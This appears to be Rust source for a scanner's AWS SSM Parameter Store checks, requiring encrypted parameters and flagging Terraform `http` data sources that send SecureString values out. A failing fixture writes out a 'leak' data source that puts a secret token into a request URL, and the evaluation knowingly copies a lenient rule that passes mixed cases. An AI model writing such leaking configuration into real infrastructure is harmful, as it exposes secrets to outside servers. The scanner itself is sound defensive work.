//! Systems Manager Parameter Store checks that Checkov writes as graph checks: parameters are
//! encrypted, and an `http` data source does not send them anywhere.

use crate::check::{Check, EntityKind, Explanation, Resource, Severity, Verdict};

use super::graph_conditions::{any_connected, equals, has_connected, not_equals};

/// This group's checks.
pub static CHECKS: &[&Check] = &[&PARAMETER_ENCRYPTED, &HTTP_NOT_SENDING_PARAMETERS];

static PARAMETER_ENCRYPTED: Check = Check {
    id: "CKV2_AWS_34",
    name: "AWS SSM Parameter should be Encrypted",
    kind: EntityKind::Resource,
    resource_types: &["aws_ssm_parameter"],
    severity: Severity::Medium,
    explanation: Explanation {
        what: "An SSM parameter has `type = \"SecureString\"`.",
        why: "`String` and `StringList` parameters are stored and shown in clear text to anyone who may read the parameter, its history or the Terraform plan.",
        fix: "Set `type = \"SecureString\"`, ideally with a customer managed `key_id`.",
        fixed: r#"resource "aws_ssm_parameter" "database_password" {
  name  = "/app/database/password"
  type  = "SecureString"
  value = var.database_password
}"#,
    },
    passing: &[r#"
resource "aws_ssm_parameter" "token" {
  name  = "/app/token"
  type  = "SecureString"
  value = "example"
}"#],
    failing: &[r#"
resource "aws_ssm_parameter" "token" {
  name  = "/app/token"
  type  = "String"
  value = "example"
}"#],
    evaluate: |parameter| equals(parameter.attributes, "type", "SecureString"),
};

static HTTP_NOT_SENDING_PARAMETERS: Check = Check {
    id: "CKV2_AWS_36",
    name: "Ensure terraform is not sending SSM secrets to untrusted domains over HTTP",
    kind: EntityKind::Data,
    resource_types: &["http"],
    severity: Severity::High,
    explanation: Explanation {
        what: "An `http` data source does not put the value of a `SecureString` SSM parameter of the configuration into its request.",
        why: "The request runs on every plan, so a secret in its URL or headers goes to that server each time, logged wherever it passes.",
        fix: "Do not read secrets in `http` data sources; give the secret to the service through its own resource or a secrets manager instead.",
        fixed: r#"data "http" "health" {
  url = "https://status.example.com/health"
}"#,
    },
    passing: &[
        r#"
data "http" "health" {
  url = "https://status.example.com/health"
}"#,
        r#"
resource "aws_ssm_parameter" "region" {
  name  = "/app/region"
  type  = "String"
  value = "eu-west-1"
}

data "http" "lookup" {
  url = "https://api.example.com/config?region=${aws_ssm_parameter.region.value}"
}"#,
    ],
    failing: &[r#"
resource "aws_ssm_parameter" "token" {
  name  = "/app/token"
  type  = "SecureString"
  value = "example"
}

data "http" "leak" {
  url = "https://api.example.com/check?token=${aws_ssm_parameter.token.value}"
}"#],
    evaluate: http_not_sending_parameters,
};

/// As in Checkov, an `http` data source connected to several parameters passes when one of
/// them is not a `SecureString`.
fn http_not_sending_parameters(http: &Resource<'_>) -> Verdict {
    const PARAMETER: &[&str] = &["aws_ssm_parameter"];
    if !has_connected(http, PARAMETER) {
        return Verdict::Passed;
    }
    any_connected(http, PARAMETER, |parameter| {
        not_equals(parameter.attributes, "type", "SecureString")
    })
}
